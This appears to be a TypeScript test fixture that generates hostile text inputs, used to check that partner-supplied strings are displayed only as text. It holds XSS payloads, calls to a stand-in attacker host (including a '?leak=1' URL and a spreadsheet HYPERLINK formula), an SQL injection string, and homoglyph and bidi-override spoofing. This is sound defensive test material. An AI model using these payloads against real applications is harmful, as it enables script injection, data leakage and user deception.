/**
 * Texts a partner could send to be shown: each would run code, ask another host, or pass for another text, if any
 * sink read it as more than text. All invented; hosts are of the reserved domain `invalid` (RFC 6761).
 */
const RUN = "entente_hit('ran')";
const HOST = "hostile.example.invalid";

const SHAPES: readonly ((n: number) => string)[] = [
  () => `<script>${RUN}</script>`,
  () => `<img src=x onerror="${RUN}">`,
  () => `<svg onload="${RUN}"><circle/></svg>`,
  (n) => `"><svg/onload=${RUN}//${n}`,
  () => `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  (n) => `<img src="http://${HOST}/${n}.png">`,
  (n) => `<link rel=stylesheet href="http://${HOST}/${n}.css">`,
  (n) => `<style>@import url(http://${HOST}/${n}.css);*{display:none}</style>`,
  () => `<a href="javascript:${RUN}">open</a>`,
  () => `javascript:${RUN}`,
  () => `data:text/html,<script>${RUN}</script>`,
  (n) => `![x](http://${HOST}/${n}.png)`,
  () => `[x](javascript:${RUN})`,
  (n) => `http://${HOST}/${n}?leak=1`,
  () => `{{constructor.constructor("${RUN}")()}}`,
  () => `\${${RUN}}`,
  () => `{n, plural, one {<b onclick=${RUN}>} other {#}}`,
  () => `'{count}' # {title}`,
  () => `</textarea><script>${RUN}</script>`,
  () => `</title><script>${RUN}</script>`,
  () => `--><script>${RUN}</script><!--`,
  () => `]]><script>${RUN}</script>`,
  () => `&lt;script&gt;${RUN}&lt;/script&gt;`,
  () => `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  () => `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  () => `<details open ontoggle=${RUN}>x</details>`,
  () => `<video><source onerror="${RUN}"></video>`,
  () => `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  () => `<form action="http://${HOST}"><button>send</button></form>`,
  (n) => `<meta http-equiv=refresh content="0;url=http://${HOST}/${n}">`,
  () => `<base href="http://${HOST}/">`,
  () => `<input autofocus onfocus=${RUN}>`,
  () => `<template><script>${RUN}</script></template>`,
  () => `__proto__`,
  () => `constructor`,
  () => `'; drop table dispatch; --`,
  () => `style="background:url(http://${HOST})"`,
  () => `=HYPERLINK("http://${HOST}","x")`,
  () => `ｓｃｒｉｐｔ ＜img src=x onerror=${RUN}＞`,
  () => `аpproved by РCMP`,
  () => `report\u202Egnp.exe`,
  () => `\u2066\u202Eyllaicepse\u202C\u2069 hidden\u200B\u2060 \uFEFFmarks`,
];

/** A text as the screens must show it: the marks that turn or hide are named. */
export function shownAs(text: string): string {
  return text.replaceAll(
    /[\u200b\u2028-\u202e\u2060-\u2069\ufeff]/gu,
    (mark) => `⟨U+${(mark.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, "0")}⟩`,
  );
}

/** As many hostile lines as asked for, each at most 200 characters long: the contract's own limit of a line. */
export function hostileLines(count: number): readonly string[] {
  return Array.from({ length: count }, (_, n) => {
    const shape = SHAPES[n % SHAPES.length];
    const turn = Math.floor(n / SHAPES.length);
    const text = shape === undefined ? "" : shape(n);
    const dressed =
      turn === 0
        ? text
        : turn === 1
          ? `x ${text}`
          : turn === 2
            ? text.toUpperCase()
            : `${"a".repeat(turn)}${text}`;
    return `${dressed} ${String(n)}`.slice(0, 200);
  });
}
